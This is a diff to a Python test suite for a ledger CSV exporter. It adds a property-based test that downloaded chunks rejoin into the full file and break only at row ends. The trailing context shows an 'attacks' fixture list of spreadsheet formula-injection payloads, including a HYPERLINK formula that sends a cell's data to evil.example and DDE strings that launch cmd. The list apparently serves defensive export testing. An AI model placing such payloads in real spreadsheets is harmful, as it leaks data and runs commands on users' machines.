@@ -174,6 +174,21 @@ def test_any_ledger_read_back_is_its_spans_and_the_dashboards_figures(changes, s
     assert sum(float(r["amount"]) for r in rows) == pytest.approx(valued["total"], abs=0.005 * len(rows) + 0.01)
 
 
+@settings(max_examples=80, deadline=None)
+@given(st.lists(st.lists(st.text(max_size=8), max_size=4), max_size=40), st.integers(1, 12))
+def test_the_download_s_chunks_are_the_file_cut_at_row_ends(cells, rows_per_chunk):
+    """Any rows (cells with quotes, commas, line ends), any chunk size: the chunks joined are the file one writer
+    writes, each ends a row and holds ``rows_per_chunk`` rows, the last one at most that."""
+    whole = io.StringIO(newline="")
+    csv.writer(whole).writerows(cells)
+    chunks = list(ledger_csv.chunks(cells, rows_per_chunk))
+    assert "".join(chunks) == whole.getvalue()
+    held = [len(list(csv.reader(io.StringIO(chunk, newline="")))) for chunk in chunks]
+    assert all(chunk.endswith("\r\n") for chunk in chunks)
+    assert held[:-1] == [rows_per_chunk] * (len(held) - 1) and 1 <= (held or [1])[-1] <= rows_per_chunk
+    assert sum(held) == len(cells)
+
+
 # -- attacks -------------------------------------------------------------------------------
 
 FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
